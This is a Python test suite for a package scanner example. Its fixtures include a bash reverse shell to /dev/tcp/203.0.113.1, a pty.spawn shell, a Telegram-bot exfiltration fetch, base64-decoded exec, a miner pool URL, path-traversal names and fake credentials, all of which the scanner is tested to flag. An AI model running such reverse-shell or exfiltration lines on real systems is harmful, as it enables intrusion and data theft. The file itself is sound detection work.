"""The rules and limits of `examples/scanner`, without the MicroVM around them."""

import hashlib
import importlib.util
import io
import json
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from tests.checkout import CHECKOUT

SCANNER = CHECKOUT / "examples" / "scanner"


def _module(name: str) -> ModuleType:
    """A file of the example: its folder is no package."""
    spec = importlib.util.spec_from_file_location(f"scanner_{name}", SCANNER / f"{name}.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


rules, unpack, sample = map(_module, ("rules", "unpack", "sample"))

FOUND = {
    "a private key": ("key.pem", "-----BEGIN EC PRIVATE KEY-----", "secret", "high"),
    "an access key": ("a.py", 'KEY = "AKIA' + 'IOSFODNN7EXAMPLE"', "secret", "high"),
    "a token": ("a.txt", "ghp_" + "a1" * 18, "secret", "high"),
    "a password": ("a.toml", "Password = 'hunter22hunter'", "secret", "medium"),
    "a shell": ("a.sh", "bash -i >& /dev/tcp/203.0.113.1/4444", "reverse-shell", "high"),
    "a terminal": ("a.py", "pty.spawn('/bin/sh')", "reverse-shell", "high"),
    "a chat": ("a.js", "fetch('https://api.telegram.org/bot1:x')", "exfiltration", "high"),
    "a miner": ("a.json", "stratum+tcp://pool", "miner", "high"),
    "turned text": ("a.py", "x = '\u202e'", "hidden-text", "medium"),
    "decoded code": ("a.py", "exec(base64.b64decode(x))", "dynamic-code", "high"),
    "made code": ("a.py", "eval(x + y)", "dynamic-code", "medium"),
    "made code at install": ("setup.py", "eval(x + y)", "dynamic-code", "high"),
    "a command": ("a.py", "import os\nos.system(x)", "command", "low"),
    "a command at install": ("setup.py", "subprocess.run(x)", "install-hook", "high"),
    "a network at install": ("p/setup.py", "from urllib.request import x", "install-hook", "high"),
    "a class at install": ("setup.py", "setup(cmdclass={})", "install-hook", "medium"),
    "a hook of npm": ("package.json", '{"postinstall": "x"}', "install-hook", "medium"),
    "a start of Python": ("a.pth", "import a", "install-hook", "high"),
    "no Python": ("a.py", "def", "unreadable", "low"),
    "too deep": ("a.py", "(" * 5000 + ")" * 5000, "unreadable", "low"),
    "a known file": ("a.bin", sample.EICAR, "known-bad", "high"),
}
INNOCENT = {
    "a constant": ("a.py", "eval('1 + 1')"),
    "a method": ("a.py", "model.eval(); re.compile(x)"),
    "a word": ("a.md", "The password is asked for; api_key = None"),
    "a network": ("a.py", "import socket"),
    "a path": ("a.pth", "./src"),
    "bytes": ("a.py", "exec(x)\0"),
    "a package": ("package.json", '{"name": "x", "scripts": {"test": "y"}}'),
}


def _checked(name: str, text: str) -> list[tuple[str, str]]:
    return [(found["rule"], found["severity"]) for found in rules.check(name, text.encode())]


@pytest.mark.parametrize("case", FOUND)
def test_a_rule_finds(case: str) -> None:
    name, text, rule, severity = FOUND[case]
    assert _checked(name, text) == [(rule, severity)]


@pytest.mark.parametrize("case", INNOCENT)
def test_nothing_is_found(case: str) -> None:
    assert _checked(*INNOCENT[case]) == []


def test_each_rule_has_a_case() -> None:
    """And each pattern is what one of them is found by."""
    assert {rule for _, _, rule, _ in FOUND.values()} >= {rule for rule, *_ in rules.PATTERNS}
    for _, _, pattern in rules.COMPILED:
        assert any(pattern.search(text) for _, text, *_ in FOUND.values()), pattern.pattern


def test_a_finding_says_where_and_is_short() -> None:
    line = "x = 1\n" * 6 + "k = 'AKIA" + "IOSFODNN7EXAMPLE' # \x1b[2J" + "y" * 500
    (found,) = rules.check("a.py", line.encode())
    assert (found["file"], found["line"]) == ("a.py", 7)
    assert len(found["text"]) == rules.LONGEST_TEXT
    assert "\x1b" not in found["text"]


def test_digests_are_of_what_they_say() -> None:
    assert rules.KNOWN_BAD[hashlib.sha256(sample.EICAR.encode()).hexdigest()] == "EICAR test file"


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _tar(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, kind in members:
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, "elsewhere"
            archive.addfile(member)
    return buffer.getvalue()


def _unpacked(archive: bytes) -> tuple[list[str], list[str]]:
    """Names and refusals."""
    unpacked = unpack.Unpacked(archive)
    return [name for name, _ in unpacked.files()], unpacked.refused


def test_archives_in_archives() -> None:
    inner = _zip({"deep.txt": b"x"})
    names, refused = _unpacked(_zip({"a.whl": inner, "b/c.txt": b"y"}))
    assert (names, refused) == (["a.whl", "a.whl!deep.txt", "b/c.txt"], [])
    outermost = _zip({"1.zip": _zip({"2.zip": _zip({"3.zip": inner})})})
    assert _unpacked(outermost)[0][-1] == "1.zip!2.zip!3.zip", "no deeper"


@pytest.mark.parametrize("name", ["../a", "/a", "b/../../a", "..\\a"])
def test_paths_that_lead_out(name: str) -> None:
    assert _unpacked(_zip({name: b""})) == ([name], [f"{name}: leads out of the archive"])


def test_links_and_devices() -> None:
    archive = _tar(("s", tarfile.SYMTYPE), ("h", tarfile.LNKTYPE), ("d", tarfile.CHRTYPE))
    assert _unpacked(archive) == ([], [f"{name}: a link or device" for name in "shd"])


CUT = _zip({"a": b"x" * 99})[:-30]


@pytest.mark.parametrize("content", [b"", b"no archive", CUT], ids=["empty", "text", "cut"])
def test_what_is_no_archive(content: bytes) -> None:
    names, refused = _unpacked(content)
    assert names == []
    assert "the archive cannot be read" in refused[0]


def test_limits_of_the_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    many = _zip({f"{number}": b"x" * 10 for number in range(9)})
    monkeypatch.setattr(unpack, "MOST_FILES", 5)
    assert _unpacked(many)[1] == ["more than 5 files"]
    monkeypatch.setattr(unpack, "MOST_FILES", 50)
    monkeypatch.setattr(unpack, "MOST_BYTES", 42)
    assert _unpacked(many) == (["0", "1", "2", "3"], ["more than 42 bytes unpacked"])
    monkeypatch.setattr(unpack, "LARGEST_FILE", 5)
    refused = _unpacked(many)[1]
    assert refused[0] == "0: more than 5 bytes, of which the begin was read"


def _scanned(archive: bytes) -> dict[str, Any]:
    argv = [sys.executable, "-I", f"{SCANNER / 'scan.py'}"]
    done = subprocess.run(argv, input=archive, capture_output=True, timeout=120, check=True)
    report: dict[str, Any] = json.loads(done.stdout)
    return report


def test_the_sample_is_told_in_full(tmp_path: Path) -> None:
    wheel = tmp_path / "sample.whl"
    subprocess.run([sys.executable, SCANNER / "sample.py", wheel], check=True, timeout=60)
    report = _scanned(wheel.read_bytes())
    assert report["verdict"] == "dangerous"
    assert {found["rule"] for found in report["findings"]} == {
        "known-bad",
        "secret",
        "dynamic-code",
        "install-hook",
    }
    assert len(report["refused"]) == 2
    assert report["archive"]["files"] == len(sample.FILES) + 1


@pytest.mark.parametrize(
    ("files", "verdict"),
    [
        ({"a.py": b"x = 1"}, "clean"),
        ({"a.py": b"eval(x)"}, "suspicious"),
        ({"../a.py": b"x = 1"}, "refused"),
        ({"a.pth": b"import a"}, "dangerous"),
    ],
)
def test_a_verdict(files: dict[str, bytes], verdict: str) -> None:
    assert _scanned(_zip(files))["verdict"] == verdict
